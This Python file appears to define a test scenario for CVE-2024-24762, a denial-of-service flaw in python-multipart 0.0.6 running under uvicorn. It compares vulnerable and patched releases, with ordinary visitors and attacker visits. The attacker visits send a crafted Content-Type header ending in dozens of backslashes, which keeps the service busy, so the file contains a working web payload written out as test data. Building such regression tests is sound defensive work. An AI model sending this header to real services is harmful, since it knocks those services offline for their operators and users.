"""python-multipart of PyPI: one header keeps a whole service busy, since its pattern tries every way to read it."""

from .application import Application, Ask, Effect, Release, Side, Visit
from .common import visitors

_FORM = "application/x-www-form-urlencoded"


def _post(options: str) -> Ask:
    return Ask("/contact", "POST", {"Content-Type": f"{_FORM}{options}"}, b"name=x", Effect.SLOWNESS)


def _slow(backslashes: int) -> Ask:
    return _post('; !="' + "\\" * backslashes)


_SERVER = ("starlette==0.36.1", "uvicorn==0.27.0")

MULTIPART = Application(
    name="python-multipart",
    product="uvicorn",
    purl="pkg:pypi/uvicorn",
    cve="CVE-2024-24762",
    kind="denial of service",
    installer="pip",
    sides={
        Release.VULNERABLE: Side(
            "0.27.0", ("python-multipart==0.0.6", *_SERVER), ("pkg:pypi/python-multipart@0.0.6",)
        ),
        Release.PATCHED: Side(
            "0.27.0", ("python-multipart==0.0.7", *_SERVER), ("pkg:pypi/python-multipart@0.0.7",)
        ),
    },
    command=(
        "/srv/installed/bin/python",
        "-m",
        "uvicorn",
        "serve:app",
        "--host",
        "192.0.2.10",
        "--port",
        "PORT",
    ),
    visits=(
        *visitors(("/", "/prices")),
        Visit(
            "198.51.100.62",
            "writes a message",
            (Ask("/contact", "POST", {"Content-Type": _FORM}, b"name=Maria"),),
            listed=False,
        ),
        Visit("203.0.113.95", "keeps the service busy for seconds", (Ask("/"), _slow(36), _slow(37))),
        Visit("203.0.113.96", "sends too short a header for it to matter", (_slow(12), _slow(16))),
        Visit(
            "203.0.113.95",
            "tries the same on the repaired release",
            (_slow(36), _slow(37)),
            Release.PATCHED,
        ),
    ),
)
